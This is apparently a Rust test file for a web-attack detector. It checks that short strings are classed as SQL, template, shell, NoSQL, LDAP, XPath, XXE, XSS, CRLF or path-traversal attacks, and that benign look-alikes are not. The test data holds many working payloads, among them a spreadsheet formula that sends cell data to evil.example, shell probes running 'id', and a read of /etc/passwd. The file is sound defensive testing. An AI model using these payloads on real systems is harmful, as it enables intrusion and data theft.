//! Values that are code from end to end, and texts that only look like it.

use super::{Budget, Detectors, Input, Place, Settings};

fn class(place: Place<'static>, value: &str) -> String {
    let detectors = Detectors::new(Settings::default());
    let findings =
        detectors.inspect(Input::new(place, b"q", value.as_bytes()), &mut Budget::default());
    detectors.verdict(&findings).map_or_else(String::new, |finding| finding.class.to_string())
}

fn check(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter(|(value, expected)| class(Place::QueryValue, value) != *expected)
        .map(|(value, expected)| {
            format!("`{value}`: `{}`, expected `{expected}`", class(Place::QueryValue, value))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_statement_alone_is_an_attack_and_one_written_down_is_not() {
    check(&[
        ("select * from users", "sqli"),
        ("SELECT password FROM users WHERE id=1", "sqli"),
        ("insert into t(a,b) values(1,'x')", "sqli"),
        ("create user x identified by 'y'", "sqli"),
        ("where 1=1 and 1=0#", "sqli"),
        ("order by 1,sleep(5)", "sqli"),
        ("id=1 or 1=1", "sqli"),
        ("1 limit 1,1 procedure analyse(1)", "sqli"),
        ("x'; prepare s from 0x73;--", "sqli"),
        ("1',(begin if (1=1) then dbms_lock.sleep(5); end if; end;)--", "sqli"),
        ("1+union+select+1,2,3", "sqli"),
        ("SELECT name FROM cities WHERE id = 4;", ""),
        ("select an option from the list", ""),
        ("order by phone, or by mail", ""),
        ("grant access to everyone", ""),
        ("where to go in May", ""),
        ("a=1 or b=2", ""),
        ("+49 170 1234567 (mobile)", ""),
    ]);
}

#[test]
fn an_expression_alone_is_an_attack_and_a_field_to_be_filled_in_is_not() {
    check(&[
        ("{{printf \"%s\" \"x\"}}", "template"),
        ("{{request.environ}}", "template"),
        ("{{ [1,2,3] | join }}", "template"),
        ("{%set x=7*7%}{{x}}", "template"),
        ("{% include 'admin/base.html' %}", "template"),
        ("<%= Rails.env %>", "template"),
        ("#{session.setAttribute(\"x\",1)}", "template"),
        ("{'id'|system}", "template"),
        ("[[7*7]]", "template"),
        ("@System.Diagnostics.Process.Start(\"cmd\")", "template"),
        ("{{first_name}}", ""),
        ("Dear {{ customer.name | capitalize }},", ""),
        ("${name}", ""),
        ("[[Main Page]]", ""),
        ("{{1,2},{3,4}}", ""),
        ("@anna.smith (she/her)", ""),
        ("#hashtag", ""),
    ]);
}

#[test]
fn other_grammars_are_read_from_end_to_end_too() {
    check(&[
        ("//user[name/text()='x']", "xpath"),
        ("count(/child::node())", "xpath"),
        ("' and substring(/users/user[1]/password,1,1)='a", "xpath"),
        ("(&(uid=*)(userPassword=*))", "ldap"),
        ("|(cn=*)", "ldap"),
        ("$where: '1 == 1'", "nosql"),
        ("' } ], $comment:'x'", "nosql"),
        ("-oProxyCommand=id", "shell"),
        ("; powershell Start-Sleep -s 5", "shell"),
        ("${env:AWS_SECRET_ACCESS_KEY}", "expression"),
        ("=HYPERLINK(\"http://evil.example/?\"&A1, \"x\")", "template"),
        ("(alert)(1)", "xss"),
        ("a=alert,a(1)", "xss"),
        ("\\74script\\76alert(1)\\74/script\\76", "xss"),
        ("</title></textarea></script>", "xss"),
        ("[a](data:text/html;base64,PHNjcmlwdD4=)", "xss"),
        ("<input ng-focus=$event.path|orderBy:'x'>", "xss"),
        ("//example.org/a[1].png", ""),
        ("(see page 4) & (page 5)", ""),
        ("| a | b |", ""),
        ("; and then it rained", ""),
        ("-o output.txt", ""),
        ("type=alert; level=3", ""),
        ("price in ${currency}", ""),
    ]);
    assert_eq!(
        class(Place::XmlText, "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><r/>"),
        "xxe"
    );
    assert_eq!(class(Place::XmlText, "<!DOCTYPE a [<!ENTITY x \"a\">]><a>&x;</a>"), "xxe");
}

#[test]
fn what_asks_loads_or_leaves_as_a_whole_is_an_attack_and_what_only_names_is_not() {
    check(&[
        ("@@version", "sqli"),
        ("current_user()", "sqli"),
        (",cast(chr(65)||version() as numeric)", "sqli"),
        ("?page=1 and convert(int,(select @@version))", "sqli"),
        ("or n=n", "sqli"),
        ("'--old\n-", "sqli"),
        ("delete from visits where 2=2", "sqli"),
        ("update staff set pin='1' where name='ann'", "sqli"),
        ("<plaintext>", "xss"),
        (";throw new Error('x')//", "xss"),
        ("a.png; script-src *", "xss"),
        ("\"><h3>x", "xss"),
        ("<img src='https://collect.example/?", "xss"),
        ("{,id,-u}", "shell"),
        ("; echo done", "shell"),
        (";wmic os get caption", "shell"),
        ("/var/www/shop/settings.php", "path-traversal"),
        ("C:\\Windows\\Panther\\a.xml", "path-traversal"),
        ("//user[position()=1]/password", "xpath"),
        ("https:// 127.0.0.1", "ssrf"),
        ("\r\n\r\n<html>x</html>", "crlf"),
        ("update your profile, set a picture", ""),
        ("drop table tennis from the list", ""),
        ("default-src 'self'; script-src 'self'", ""),
        ("5'11\" tall, > 60 kg", ""),
        ("<img src=\"https://pictures.example/1.png\" alt=\"a\">", ""),
        ("/products/settings.html", ""),
        ("C:\\Users\\anna\\Documents\\letter.docx", ""),
        ("https://pictures.example/u/2?", ""),
        ("if (node == NULL)\n    goto out;", ""),
        ("@cache.wraps(function)", ""),
        ("// #[derive(Clone)]", ""),
        ("Hello,\r\n\r\nthank you.", ""),
    ]);
}

#[test]
fn an_engine_is_probed_with_openers_settings_and_filters_that_run() {
    check(&[
        ("${{<%[%'\"}}%\\.", "template"),
        ("{{settings.DATABASES}}", "template"),
        ("{{ text | eval }}", "template"),
        ("{{lipsum|string}}", "template"),
        ("{% import shapes %}", "template"),
        ("- var x = 7*7; = x", "template"),
        ("= 7*7", "template"),
        ("<cfoutput>#7*7#</cfoutput>", "template"),
        ("$class.getResource('.').getPath()", "template"),
        ("@System.DateTime.Now", "template"),
        ("{{settings.theme}}", ""),
        ("{{ text | upper }}", ""),
        ("- milk, 2 bottles", ""),
        ("= the sum of all parts", ""),
    ]);
}

#[test]
fn code_of_the_server_is_found_by_what_it_reaches() {
    check(&[
        ("1; return true", "nosql"),
        ("this.age > 0", "nosql"),
        ("db.users.drop()", "nosql"),
        ("[{\"$match\": {}}, {\"$out\": \"x\"}]", "nosql"),
        ("x' or //user[1]/name='a", "xpath"),
        ("/shelf/book[@id='1']", "xpath"),
        ("admin)\0", "ldap"),
        ("{\"0\":\"$1:constructor:constructor\"}", "node"),
        ("process[mainModule", "node"),
        ("Process.spawn(\"id\")", "shell"),
        ("$SHELL -c id", "shell"),
        (">/tmp/x", "shell"),
        ("/etc/pas[s]wd", "shell"),
        ("..\\letter", "path-traversal"),
        ("[\"a.b.Source\", {\"url\":\"x\"}]", "deserialisation"),
        ("self /*a*/ [ /*b*/ \"alert\"](1)", "xss"),
        ("'';!--\"<q>=&{()}", "xss"),
        ("| Get-ChildItem", "shell"),
        ("\"; echo done; \"", "shell"),
        ("\\' /bin/cat /srv/x", "shell"),
        ("' O/**/R 2=2--", "sqli"),
        ("*(objectClass=user)", "ldap"),
        ("1==1", "nosql"),
        ("Get-Together on Friday", ""),
        ("x'--old", "sqli"),
        ("7--", "sqli"),
        ("union select", "sqli"),
        ("{\"$set\": {\"plan\": \"pro\"}, \"$ip\": \"x\"}", ""),
        ("{\"$schema\": \"https://json-schema.org/x\", \"$comment\": \"a\"}", ""),
        ("[\"a.b\", \"c.d\"]", ""),
        ("read this. return the book", ""),
        ("10--20 units", ""),
        ("trade union selects a chair", ""),
    ]);
    assert_eq!(class(Place::Header("x-test"), "() { x"), "shell");
}

#[test]
fn a_variable_that_the_value_names_a_function_by_is_called_and_a_price_is_not() {
    check(&[
        ("$f=\"sys\".\"tem\";$f('id')", "php"),
        ("$function = strrev('metsys'); $function('id');", "php"),
        ("$names = ['system']; $cmd = $names[0]; $names('x')", "php"),
        ("echo 1; $run = 'passthru' ; $run($_GET[1])", "php"),
        ("$total = 12; the sum is $total (net)", ""),
        ("$price = \"5\"; it is $price (five) in the shop", ""),
        ("pay $a(net) or $b(gross)", ""),
    ]);
}

#[test]
fn line_ends_of_unicode_begin_a_header_and_part_no_text() {
    for end in
        ["\u{2028}", "\u{2029}", "\u{85}", "\u{4e0d}\u{4e0a}", "\u{20d}\u{20a}", "\u{560d}\u{560a}"]
    {
        let value = format!("x{end}Set-Cookie: a=b");
        assert_eq!(class(Place::QueryValue, &value), "crlf", "{}", end.escape_unicode());
        let text = format!("one line{end}and the next, which says: more");
        assert_eq!(class(Place::QueryValue, &text), "", "{}", end.escape_unicode());
    }
    check(&[("\u{8ddf}\u{4e0d}\u{4e0a}", ""), ("id\u{2028}whoami is a command", "")]);
}

#[test]
fn operators_of_json_go_on_with_a_query_and_in_a_sentence_do_not() {
    check(&[
        ("' or data @> '{\"a\":1}'--", "sqli"),
        ("' or info ?| array['a','b']--", "sqli"),
        ("' or info ->> 'role' = 'admin", "sqli"),
        ("' or j #>> '{a,b}' = 'c'--", "sqli"),
        ("' and j ? 'k'--", "sqli"),
        ("' or '{\"a\":1}'::jsonb ? 'a'--", "sqli"),
        ("' or '{}' <@ data --", "sqli"),
        ("1 or data->>'a' like '%'", "sqli"),
        ("1) or (data @> '{}'", "sqli"),
        ("7 or data @> '{\"a\":1}'", "sqli"),
        ("use data->>'a' to read a field of a row", ""),
        ("is it a @> b or b <@ a in that language?", ""),
        ("what? 'yes' or 'no'?", ""),
        ("1 or 2 -> 3 of them", ""),
        ("see step 1 -> 'next' or 2 -> 'back'", ""),
        ("it's either a ?| b or a ?& b", ""),
    ]);
}

#[test]
fn operators_of_documents_are_found_however_deep_they_stand() {
    check(&[
        ("{\"user\":{\"name\":{\"$ne\":null}}}", "nosql"),
        ("{\"$or\":[{\"a\":1},{\"b\":{\"$gt\":\"\"}}]}", "nosql"),
        ("[{\"a\":[{\"b\":{ \"$regex\" : \".*\"}}]}]", "nosql"),
        ("{'a':{'$where':'sleep(1)'}}", "nosql"),
        ("{\"price\":\"$12\",\"of\":\"$in stock\"}", ""),
        ("{\"$schema\":\"https://json-schema.org/x\",\"$id\":\"a\"}", ""),
    ]);
}
